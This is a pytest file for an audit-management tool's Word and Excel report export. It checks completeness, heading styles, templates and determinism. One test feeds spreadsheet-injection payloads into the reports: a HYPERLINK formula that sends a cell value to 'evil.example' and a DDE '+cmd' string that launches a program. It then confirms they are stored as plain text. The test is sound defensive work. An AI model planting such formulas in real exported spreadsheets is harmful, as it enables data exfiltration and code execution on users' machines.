"""The Word report and the Excel workbook: complete by construction, safe, deterministic, on a template."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import zipfile

import pytest
from openpyxl import load_workbook

from qms_audit.domain.presentation import GRADE_MARKS, date, result_label
from qms_audit.infra.locations import Workspace
from qms_audit.services.auditing import open_audit
from tests.office_text import docx_paragraphs, docx_tables, docx_text, xlsx_rows, xlsx_sheets

DEMO = "demo-2026-foe"


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """The demo workspace with its Word and Excel reports written by the CLI."""
    from qms_audit.cli import run
    from tests.conftest import REPO

    root = tmp_path_factory.mktemp("reports") / "ws"
    root.mkdir()
    for name in ("standards", "sop_templates", "audits", "ncs", "institution.yaml", "programme.yaml"):
        src = REPO / name
        (shutil.copytree if src.is_dir() else shutil.copy2)(src, root / name)
    # made before the per-test settings apply (a module's fixture comes first): a cache of its own, so that the
    # page numbers laid out for it (and the audit index) stay out of the person's cache
    saved = os.environ.get("QMS_AUDIT_CACHE")
    os.environ["QMS_AUDIT_CACHE"] = str(root.parent / "cache")
    try:
        assert run(["-w", str(root), "report", DEMO, "--format", "docx", "-o", str(root / "r.docx")]) == 0
        assert run(["-w", str(root), "report", DEMO, "--format", "xlsx", "-o", str(root / "r.xlsx")]) == 0
    finally:
        if saved is None:
            os.environ.pop("QMS_AUDIT_CACHE", None)
        else:
            os.environ["QMS_AUDIT_CACHE"] = saved
    return root


def test_docx_has_the_iso_19011_contents(made):
    text = docx_text(made / "r.docx")
    for heading in ("Document control", "Approval", "1. Executive summary", "Top risks", "2.1 Objectives",
                    "2.2 Scope", "2.3 Client, team and participants", "2.4 Audit plan and timetable", "2.5 Criteria",
                    "2.6 Method and sampling", "2.7 Obstacles met", "3. Results by clause", "4. Findings",
                    "5. Diverging opinions", "6. Good practices", "7. Areas not covered",
                    "8. Corrective action status", "9. Conclusions", "9.1 Conclusions on the audit objectives",
                    "9.3 Degree of fulfilment of the audit criteria",
                    "9.4 What the results mean for the audit programme", "Appendix A. Evidence register",
                    "Appendix B. How to check this report"):
        assert heading in text, heading
    assert "UTN-IAR-2026-demo-2026-foe" in text  # report id from the profile's numbering scheme
    assert "evidence may not be fully representative" in text  # the sampling statement (19011 6.5.1 k)
    assert "Deputy Vice-Chancellor (Academic)" in text  # client and distribution
    assert "Clause 10 is left to the follow-up visit" in text  # areas not covered and why


def test_docx_uses_real_heading_styles_a_toc_field_and_page_numbers(made):
    from docx import Document

    doc = Document(str(made / "r.docx"))
    styles = {p.text: p.style.name for p in doc.paragraphs if p.style.name.startswith("Heading")}
    assert styles["1. Executive summary"] == "Heading 1" and styles["2.1 Objectives"] == "Heading 2"
    assert styles["Clause 8: Operation"] == "Heading 2"  # the navigation pane lists every clause
    with zipfile.ZipFile(made / "r.docx") as zf:
        body = zf.read("word/document.xml").decode()
        footer = "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("word/footer"))
        settings = zf.read("word/settings.xml").decode()
        pictures = [n for n in zf.namelist() if n.startswith("word/media/")]
    # the contents link to bookmarked headings and carry PAGEREF fields for their page numbers
    anchors = re.findall(r'<w:hyperlink w:anchor="(_Toc\d+)"', body)
    bookmarks = re.findall(r'<w:bookmarkStart w:id="\d+" w:name="(_Toc\d+)"/>', body)
    assert anchors and sorted(anchors) == sorted(bookmarks)
    assert all(f"PAGEREF {name} \\h" in body for name in anchors)
    assert "PAGE" in footer and "NUMPAGES" in footer
    assert "updateFields" in settings
    assert len(pictures) == 2  # clause scores and PDCA profile


def test_clause_headings_carry_the_clause_numbers_and_nothing_that_reads_as_one(made):
    """Section 3 heads each clause by its own number (\"Clause 4: ...\"): a section number such as 3.4 would read
    as clause 3.4 of the standard. The contents list the same headings."""
    from docx import Document

    opened = open_audit(Workspace(made), DEMO)
    in_scope = opened.snapshot.record.plan.scope.clauses
    expected = [f"Clause {c.number}: {c.title}" for c in opened.standard.auditable_clauses()
                if not in_scope or c.number in in_scope]
    assert expected[:2] == ["Clause 1: Scope", "Clause 4: Context of the organization"]
    headings = [(p.style.name, p.text) for p in Document(str(made / "r.docx")).paragraphs
                if p.style.name.startswith("Heading")]
    texts = [text for _style, text in headings]
    section = headings[texts.index("3. Results by clause") + 1: texts.index("4. Findings")]
    assert section == [("Heading 2", text) for text in expected]
    paragraphs = docx_paragraphs(made / "r.docx")
    # the contents as filled at save time: each heading, then its page number when LibreOffice laid it out
    contents = [re.sub(r"\d+$", "", text) for text in paragraphs]
    contents = contents[contents.index("3. Results by clause") + 1: contents.index("4. Findings")]
    assert contents == expected
    assert not [t for t in texts if t[:2] == "3." and t[2:3].isdigit()]


def test_every_recorded_fact_of_the_demo_is_in_the_docx_and_the_xlsx(made):
    """Complete by construction: walk every rating, evidence entry, finding, response and CAPA field."""
    opened = open_audit(Workspace(made), DEMO)
    docx = docx_text(made / "r.docx")
    tables = docx_tables(made / "r.docx")
    result_rows = {row[0]: row for t in tables if t[0][:3] == ["Ref", "Requirement", "Rating"] for row in t[1:]}
    checklist = {r["Ref"]: r for r in xlsx_rows(made / "r.xlsx", "Checklist")}
    evidence_sheet = {r["Evidence id"]: r for r in xlsx_rows(made / "r.xlsx", "Evidence")}
    # an empty cell reads back as None
    register = {r["Finding"]: {k: ("" if v is None else v) for k, v in r.items()}
                for r in xlsx_rows(made / "r.xlsx", "NC register")}
    actions = {(r["Finding"], r["Action"]): r for r in xlsx_rows(made / "r.xlsx", "CAPA actions")}
    checked = 0
    for req in opened.scoped_requirements():
        result = opened.snapshot.result(req.ref)
        label = result_label(opened.standard, result)
        # a nonconformity is marked in words that survive grey printing ("MAJOR NC"), the others by their label
        shown = GRADE_MARKS[result.grade.value] if result.grade.is_nc else label
        assert result_rows[req.ref][2].startswith(shown), req.ref
        assert checklist[req.ref]["Rating"] == label
        if result.note:
            assert result.note in result_rows[req.ref][3] and checklist[req.ref]["Note"] == result.note
        if result.rated_by:
            assert result.rated_by in result_rows[req.ref][2] and checklist[req.ref]["Rated by"] == result.rated_by
            assert same_time(checklist[req.ref]["Rated on"], result.rated_at)
        if result.na_reason:
            assert result.na_reason in docx and checklist[req.ref]["N/A reason"] == result.na_reason
        for ev in result.evidence:
            assert ev.text in result_rows[req.ref][3]
            row = evidence_sheet[ev.id]
            assert (row["Ref"], row["PDCA"], row["Kind"], row["Evidence"]) == (req.ref, ev.phase.value, ev.kind.value,
                                                                               ev.text)
            assert same_time(row["Collected"], ev.collected_at)
            if ev.reference:
                assert ev.reference in docx and row["Reference"] == ev.reference
            if ev.sample:
                assert str(ev.sample) in docx and row["Sample"] == str(ev.sample)
            if ev.file:
                assert ev.file.sha256 in docx and row["SHA-256"] == ev.file.sha256
            checked += 1
    for f in opened.snapshot.active_findings():
        row = register[f.id]
        for text in (f.statement, f.evidence):
            assert text in docx
        assert row["Statement"] == f.statement and row["Evidence"] == f.evidence
        assert same_time(row["Raised"], f.raised_at) and row["Raised by"] == f.raised_by
        assert same_time(row["Correction due"], f.response_due)
        if f.response:
            assert f.response.position in docx and row["Auditee position"] == f.response.position
            if f.response.text:
                assert f.response.text in docx and row["Auditee response"] == f.response.text
        c = f.capa
        if c is None:
            continue
        for step, column in ((c.correction, "Correction"), (c.containment, "Containment"), (c.similar, "Similar NCs"),
                             (c.risk_update, "Risks updated"), (c.qms_update, "QMS updated")):
            if step:
                assert step.text in docx and step.text in row[column]
        if c.root_cause:
            assert c.root_cause.statement in docx and c.root_cause.method.value in row["Root cause"]
            if c.root_cause.analysis:
                assert c.root_cause.analysis in docx and row["Analysis"] == c.root_cause.analysis
        for a in c.actions:
            assert a.description in docx and a.owner in docx and date(a.due) in docx
            assert actions[(f.id, a.id)]["Description"] == a.description
            assert actions[(f.id, a.id)]["Owner"] == a.owner
            assert same_time(actions[(f.id, a.id)]["Due"], a.due)
            assert same_time(actions[(f.id, a.id)]["Done"], a.done_at)
        for v in c.verifications:
            assert v.method in docx and v.by in docx and v.method in row["Effectiveness reviews"]
        if c.closed_at:
            assert same_time(row["Closed"], c.closed_at) and row["Closed by"] == c.closed_by
    assert checked > 80


def same_time(cell: object, recorded: dt.date | dt.datetime | None) -> bool:
    """A date cell read back (openpyxl gives a datetime) holds the recorded date or time, to the second (a
    spreadsheet stores a time as a fraction of a day, and the zone is dropped as the report prints it)."""
    if recorded is None:
        return cell in (None, "")  # a blank cell, as the register's rows read it
    if not isinstance(recorded, dt.datetime):
        recorded = dt.datetime.combine(recorded, dt.time())
    return isinstance(cell, dt.datetime) and abs(cell - recorded.replace(tzinfo=None)) < dt.timedelta(seconds=1)


def test_xlsx_register_is_a_filterable_table_with_colours_and_native_charts(made):
    wb = load_workbook(made / "r.xlsx")
    register = wb["NC register"]
    assert "Findings" in register.tables
    rules = [r for cf in register.conditional_formatting for r in cf.rules]
    formulas = " ".join(f for r in rules for f in r.formula)
    header = [c.value for c in register[1]]
    overdue = chr(ord("A") + header.index("Overdue"))
    assert f'${overdue}2="yes"' in formulas and "Major nonconformity" in formulas
    assert len(wb["Summary"]._charts) == 2
    summary = {row[0]: row[1] for row in xlsx_sheets(made / "r.xlsx")["Summary"] if row and row[0]}
    assert summary["Verdict"] == "Not conforming"


def test_same_records_give_the_same_report_content(made, tmp_path):
    from qms_audit.cli import run

    again = tmp_path / "again.docx"
    assert run(["-w", str(made), "report", DEMO, "-o", str(again)]) == 0
    assert docx_paragraphs(again) == docx_paragraphs(made / "r.docx")
    with zipfile.ZipFile(again) as a, zipfile.ZipFile(made / "r.docx") as b:
        assert a.read("word/document.xml") == b.read("word/document.xml")
    again_x = tmp_path / "again.xlsx"
    assert run(["-w", str(made), "report", DEMO, "--format", "xlsx", "-o", str(again_x)]) == 0
    assert xlsx_sheets(again_x) == xlsx_sheets(made / "r.xlsx")


HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"click") \x07 bell \x0b vtab \x1b escape'


def test_hostile_text_is_escaped_and_never_a_formula(cli, demo_workspace, tmp_path):
    ws = demo_workspace
    assert cli("-w", ws, "audit", "rate", DEMO, "9.1.c", "--grade", "ofi", "--note", HOSTILE).code == 0
    assert cli("-w", ws, "audit", "evidence", "add", DEMO, "9.1.c", "--phase", "C", "--kind", "data", "--text",
               "+cmd|' /C calc'!A0", "--reference", "@SUM(1+1)", "--sample", "2").code == 0
    assert cli("-w", ws, "report", DEMO, "-o", tmp_path / "h.docx").code == 0
    assert cli("-w", ws, "report", DEMO, "--format", "xlsx", "-o", tmp_path / "h.xlsx").code == 0
    text = docx_text(tmp_path / "h.docx")
    assert '=HYPERLINK("http://evil.example/"&A1,"click")  bell  vtab  escape' in text
    wb = load_workbook(tmp_path / "h.xlsx")
    formula_cells = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row
                     if c.data_type == "f"]
    assert formula_cells == []
    values = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "+cmd|' /C calc'!A0" in values and "@SUM(1+1)" in values
    assert any(v.startswith('=HYPERLINK("http://evil.example/"') for v in values)
    with zipfile.ZipFile(tmp_path / "h.xlsx") as zf:
        sheet_xml = "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))
    assert "<f>" not in sheet_xml  # no formula element anywhere


def test_report_on_the_institutions_template(cli, demo_workspace, tmp_path):
    """A template that restyles Heading 1 only (the rest left as python-docx made them, blue): the headings,
    title and subtitle we use take Heading 1's colour, and table headers a light tint of it."""
    from docx import Document
    from docx.shared import RGBColor

    template = Document()
    template.sections[0].header.paragraphs[0].text = "Letterhead of Universiti Teknologi Nusantara"
    template.styles["Heading 1"].font.color.rgb = RGBColor(0x80, 0x00, 0x20)
    template.add_paragraph("TEMPLATE BODY THAT MUST NOT REMAIN")
    (demo_workspace / "templates").mkdir()
    template.save(demo_workspace / "templates" / "report-template.docx")
    assert cli("-w", demo_workspace, "report", DEMO, "-o", tmp_path / "t.docx").code == 0
    out = Document(str(tmp_path / "t.docx"))
    assert "Letterhead of Universiti Teknologi Nusantara" in out.sections[0].header.paragraphs[0].text
    assert "DRAFT 0.1" in out.sections[0].header.paragraphs[-1].text  # under the letterhead, kept
    for name in ("Heading 1", "Heading 2", "Heading 3", "Title", "Subtitle"):
        assert out.styles[name].font.color.rgb == RGBColor(0x80, 0x00, 0x20), name
    assert "TEMPLATE BODY THAT MUST NOT REMAIN" not in docx_text(tmp_path / "t.docx")
    assert "1. Executive summary" in docx_text(tmp_path / "t.docx")
    with zipfile.ZipFile(tmp_path / "t.docx") as zf:
        body = zf.read("word/document.xml").decode()
        styles = zf.read("word/styles.xml").decode()
    assert 'w:fill="D9E2F3"' not in body and 'w:fill="E8D1D7"' in body  # 82 % of the way from 800020 to white
    assert "4F81BD" not in re.search(r'w:styleId="Title".*?</w:style>', styles, re.S).group(0)  # its rule too


def test_a_template_that_styles_its_headings_and_title_governs_them(cli, demo_workspace, tmp_path):
    from docx import Document
    from docx.shared import RGBColor

    looks = {"Heading 1": ("DejaVu Serif", RGBColor(0x1F, 0x4E, 0x3D)), "Heading 2": ("DejaVu Sans", RGBColor(
        0x6B, 0x2C, 0x91)), "Title": ("Liberation Serif", RGBColor(0x80, 0x00, 0x20))}
    template = Document()
    for name, (font, colour) in looks.items():
        template.styles[name].font.name = font
        template.styles[name].font.color.rgb = colour
    template.save(tmp_path / "institution.docx")
    assert cli("-w", demo_workspace, "report", DEMO, "--template", tmp_path / "institution.docx", "-o",
               tmp_path / "t.docx").code == 0
    out = Document(str(tmp_path / "t.docx"))
    for name, (font, colour) in looks.items():
        assert (out.styles[name].font.name, out.styles[name].font.color.rgb) == (font, colour), name
    # the styles the template left as they were follow the nearest one it styled
    assert (out.styles["Heading 3"].font.name, out.styles["Heading 3"].font.color.rgb) == looks["Heading 2"]
    assert (out.styles["Subtitle"].font.name, out.styles["Subtitle"].font.color.rgb) == looks["Title"]
    used = {p.style.name for p in out.paragraphs}
    assert {"Heading 1", "Heading 2", "Heading 3", "Title", "Subtitle"} <= used


def test_styles_a_template_lacks_are_based_on_its_own(tmp_path):
    """A template without Heading 3 or Subtitle (Word keeps built-in styles out of a file until they are used):
    ours are added on the template's Heading 2 and Title, each at its own outline level."""
    from docx import Document
    from docx.shared import RGBColor

    from qms_audit.render.docxwriter import DocxWriter

    template = Document()
    template.styles["Heading 2"].font.color.rgb = RGBColor(0x33, 0x66, 0x00)
    for name in ("Heading 3", "Subtitle"):
        template.styles[name].element.getparent().remove(template.styles[name].element)
    template.save(tmp_path / "bare.docx")
    w = DocxWriter(tmp_path / "bare.docx")
    heading3, subtitle = w.doc.styles["Heading 3"], w.doc.styles["Subtitle"]
    assert heading3.base_style.name == "Heading 2" and subtitle.base_style.name == "Title"
    levels = {name: w.doc.styles[name].element.pPr.find(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}outlineLvl") for name in ("Heading 3",
                                                                                                 "Subtitle")}
    assert levels["Heading 3"].get(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}val") == "2"
    assert levels["Subtitle"].get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}val") == "9"


@pytest.mark.parametrize("content, message", [
    (b"not a zip at all", "not a valid Office file"),
    (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 512, "password-protected"),
    (b"", "empty"),
])
def test_broken_templates_are_refused_with_one_line(cli, demo_workspace, tmp_path, content, message):
    bad = tmp_path / "bad.docx"
    bad.write_bytes(content)
    result = cli("-w", demo_workspace, "report", DEMO, "--template", bad, "-o", tmp_path / "x.docx")
    assert result.code == 2 and message in result.err and len(result.err_lines) == 1
    assert not (tmp_path / "x.docx").exists()


def test_unknown_audit_and_wrong_suffix(cli, demo_workspace, tmp_path):
    assert "unknown audit" in cli("-w", demo_workspace, "report", "nope", "-o", tmp_path / "a.docx").err
    assert "should end in .xlsx" in cli("-w", demo_workspace, "report", DEMO, "--format", "xlsx", "-o",
                                        tmp_path / "a.docx").err


def test_pdf_needs_libreoffice_and_says_how_to_install_it(cli, demo_workspace, tmp_path, monkeypatch):
    import qms_audit.render.build as build

    monkeypatch.setattr(build, "soffice", lambda: None)
    result = cli("-w", demo_workspace, "report", DEMO, "--format", "pdf", "-o", tmp_path / "r.pdf")
    assert result.code == 3
    assert "LibreOffice" in result.err and "apt install libreoffice-writer" in result.err


@pytest.mark.skipif(shutil.which("soffice") is None and shutil.which("libreoffice") is None,
                    reason="LibreOffice is not installed: the PDF cannot be made here")
def test_pdf_through_libreoffice(cli, demo_workspace, tmp_path):
    result = cli("-w", demo_workspace, "report", DEMO, "--format", "pdf", "-o", tmp_path / "r.pdf")
    assert result.code == 0, result.err
    pdf = (tmp_path / "r.pdf").read_bytes()
    assert pdf.startswith(b"%PDF")
    import pypdfium2 as pdfium

    pdf = pdfium.PdfDocument(str(tmp_path / "r.pdf"))
    assert len(pdf) > 10
    text = "\n".join(pdf[i].get_textpage().get_text_range() for i in range(6))
    assert "Internal audit report" in text and "Executive summary" in text


def test_score_json_and_report_agree(cli, made):
    score = json.loads(cli("-w", made, "score", DEMO, "--json").out)
    summary = {row[0]: row[1] for row in xlsx_sheets(made / "r.xlsx")["Summary"] if row and row[0]}
    assert summary["Overall score"] == pytest.approx(score["overall"])
    assert summary["Coverage"] == pytest.approx(score["coverage"])
